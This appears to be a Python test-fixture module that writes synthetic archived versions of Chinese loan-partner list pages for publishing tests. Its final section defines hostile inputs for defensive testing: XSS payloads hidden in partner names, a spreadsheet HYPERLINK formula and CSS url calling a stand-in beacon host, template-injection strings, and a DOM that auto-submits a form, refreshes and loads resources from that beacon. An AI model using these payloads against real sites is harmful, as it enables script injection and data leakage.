"""Synthetic archives for publishing tests and benchmarks.

Versions are written the way the pipeline writes them (blobs first with `archive.put_blob`,
the manifest last with `archive.write`, chained to the previous manifest). Events come from
a plain match-key comparison (added, readded, dropped, category/products/period changed), or
are given: publishing renders whatever events a manifest holds, and these tests should not
move whenever the real comparison (archiver.partners) learns something new.

    builder = ArchiveBuilder(store)
    builder.version("zhaolian", [partner("蚂蚁智信（杭州）信息技术有限公司")])
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from html import escape

from archiver import archive, codec, keys, textdiff
from archiver.archive import Blob
from archiver.models import (
    Belief,
    EventType,
    ListStatus,
    Manifest,
    Partner,
    PartnerEvent,
    StoredVersion,
)
from archiver.ports import ObjectStore


def png(width: int, height: int, rgb: tuple[int, int, int]) -> bytes:
    """A solid-colour PNG (enough to stand in for a screenshot)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    row = b"\x00" + bytes(rgb) * width
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(row * height))
        + chunk(b"IEND", b"")
    )


def list_text(title: str, items: Sequence[Partner], *, as_of: str = "") -> str:
    """The canonical text of a simple list page."""
    lines = [title]
    if as_of:
        lines.append(f"截至{as_of}")
    for number, item in enumerate(items, 1):
        fields = [item.raw, item.category_raw, "、".join(item.products), item.period]
        lines.append(f"{number} " + " ".join(f for f in fields if f))
    return "\n".join(lines)


def list_dom(title: str, items: Sequence[Partner]) -> str:
    """A rendered DOM for the list (escaped like a real page would be)."""
    rows = "".join(
        f"<tr><td>{n}</td><td>{escape(p.raw)}</td><td>{escape(p.category_raw)}</td></tr>"
        for n, p in enumerate(items, 1)
    )
    return (
        f"<html><head><title>{escape(title)}</title></head><body><h1>{escape(title)}</h1>"
        f"<table>{rows}</table></body></html>"
    )


class ArchiveBuilder:
    """Writes versions of synthetic sites into a store, one check apart."""

    def __init__(
        self,
        store: ObjectStore,
        *,
        start: datetime | None = None,
        step: timedelta = timedelta(days=1),
    ) -> None:
        self.store = store
        self.clock = start or datetime(2025, 10, 1, 0, 0, tzinfo=UTC)
        self.step = step

    def version(
        self,
        site_id: str,
        items: Sequence[Partner],
        *,
        title: str = "互联网贷款合作机构名单",
        text: str | None = None,
        dom: str | None = None,
        url: str | None = None,
        screenshot: bytes | None = None,
        list_status: ListStatus = ListStatus.OK,
        as_of: str = "",
        at: datetime | None = None,
        events: tuple[PartnerEvent, ...] | None = None,
    ) -> StoredVersion:
        """Write the next version of `site_id` and return it."""
        self.clock = at or self.clock + self.step
        previous = archive.head(self.store, site_id)
        text = text if text is not None else list_text(title, items, as_of=as_of)
        dom = dom if dom is not None else list_dom(title, items)
        previous_text = archive.text_of(self.store, previous.manifest) if previous else ""
        diff = textdiff.compare(previous_text, text)
        seq = previous.manifest.seq + 1 if previous else 1
        shot = screenshot if screenshot is not None else png(16, 12, _colour(site_id, seq))
        page_url = url or f"https://www.example.cn/{site_id}/hzjg.html"
        blobs = [
            Blob("text", text.encode(), "text/plain; charset=utf-8"),
            Blob("dom", dom.encode(), "text/html; charset=utf-8", page_url),
            Blob("visible_text", text.encode(), "text/plain; charset=utf-8", page_url),
            Blob("response", dom.encode(), "text/html", page_url),
            Blob(
                "response_headers",
                codec.canonical_json({"status": 200, "headers": [["content-type", "text/html"]]}),
                "application/json",
                page_url,
            ),
            Blob("screenshot", shot, "image/png"),
        ]
        if previous_text:
            patch = textdiff.to_patch(previous_text, diff)
            blobs.append(Blob("diff", patch.encode(), "text/x-diff-match-patch; charset=utf-8"))
        refs = tuple(archive.put_blob(self.store, blob)[0] for blob in blobs)
        readable = list_status is not ListStatus.UNPARSEABLE
        found, departed = (
            compare(previous.manifest, tuple(items))
            if readable and previous is not None
            else ((), previous.manifest.departed if previous else ())
        )
        events = found if events is None else events
        manifest = Manifest(
            site_id=site_id,
            seq=seq,
            captured_at=self.clock,
            requested_url=page_url,
            final_url=page_url,
            http_status=200,
            browser_version="HeadlessChrome/156.0",
            title=title,
            content_digest=_content_digest(text, items),
            blobs=refs,
            list_status=list_status,
            partners=tuple(items) if readable else (),
            events=events,
            departed=departed,
            previous=archive.link_to(previous),
            text_inserted=diff.inserted,
            text_deleted=diff.deleted,
            archiver_version="synthetic",
            belief=Belief.of_list(list_status),
        )
        stored = archive.write(self.store, manifest)
        if stored is None:
            raise RuntimeError(f"{site_id} v{seq} already exists")
        return stored


def compare(
    previous: Manifest, items: tuple[Partner, ...]
) -> tuple[tuple[PartnerEvent, ...], tuple[str, ...]]:
    """Events and departed keys by match key alone."""
    before = {p.match_key: p for p in previous.partners}
    after = {p.match_key: p for p in items}
    departed = set(previous.departed)
    events = []
    for key, item in after.items():
        old = before.get(key)
        if old is None:
            kind = EventType.READDED if key in departed else EventType.ADDED
            events.append(
                PartnerEvent(type=kind, name=item.name, match_key=key, category=item.category)
            )
            continue
        for name in ("category_raw", "products", "period"):
            was, now = getattr(old, name), getattr(item, name)
            if was != now:
                events.append(
                    PartnerEvent(
                        type=EventType.FIELD_CHANGED,
                        name=item.name,
                        match_key=key,
                        category=item.category,
                        field=name,
                        before="、".join(was) if isinstance(was, tuple) else was,
                        after="、".join(now) if isinstance(now, tuple) else now,
                    )
                )
    for key, item in before.items():
        if key not in after:
            events.append(
                PartnerEvent(
                    type=EventType.DROPPED, name=item.name, match_key=key, category=item.category
                )
            )
    gone = (departed | (set(before) - set(after))) - set(after)
    return tuple(events), tuple(sorted(gone))


def _content_digest(text: str, items: Sequence[Partner]) -> str:
    return keys.sha256_hex(text.encode() + codec.canonical_json(codec.partners_data(tuple(items))))


def _colour(site_id: str, seq: int) -> tuple[int, int, int]:
    seed = zlib.crc32(f"{site_id}/{seq}".encode())
    return (seed & 0xFF, (seed >> 8) & 0xFF, (seed >> 16) & 0xFF)


# --- hostile input: every archived string is attacker-controlled ------------------------------

BEACON = "http://198.51.100.7/beacon"  # TEST-NET-2: any request to it is a leak
XSS_NAMES = (
    '</script><script>window.__pwned="script"</script>科技有限公司',
    "<img src=x onerror=\"window.__pwned='img'\">信息技术有限公司",
    '"><svg onload="window.__pwned=\'svg\'">金融服务有限公司',
    "javascript:window.__pwned='href'//小额贷款有限公司",
    '=HYPERLINK("' + BEACON + '","点击")',
    "{{ 7*7 }}{% if 1 %}模板{% endif %}有限公司",
    "</textarea></title><style>body{background:url(" + BEACON + ")}</style>担保有限公司",
)


def hostile_dom() -> str:
    """An archived DOM that tries every way to run script or reach out when shown."""
    return (
        "<!doctype html><html><head>"
        f'<base href="{BEACON}/">'
        f'<meta http-equiv="refresh" content="0;url={BEACON}">'
        f'<link rel="stylesheet" href="{BEACON}.css">'
        "<script>window.__pwned='dom-script';parent.__pwned='dom-parent';alert('dom')</script>"
        "</head><body onload=\"parent.__pwned='onload'\">"
        "<h1>互联网贷款合作机构名单</h1>"
        f'<img src="{BEACON}.png" onerror="parent.__pwned=\'onerror\'">'
        "<iframe src=\"javascript:parent.parent.__pwned='iframe'\"></iframe>"
        f'<form action="{BEACON}" id="f"><input name="q" value="x"></form>'
        "<script>document.getElementById('f').submit()</script>"
        "<a href=\"javascript:parent.__pwned='link'\">点我</a>"
        "<p>&quot; ' \" </iframe><script>parent.__pwned='srcdoc-breakout'</script></p>"
        "</body></html>"
    )
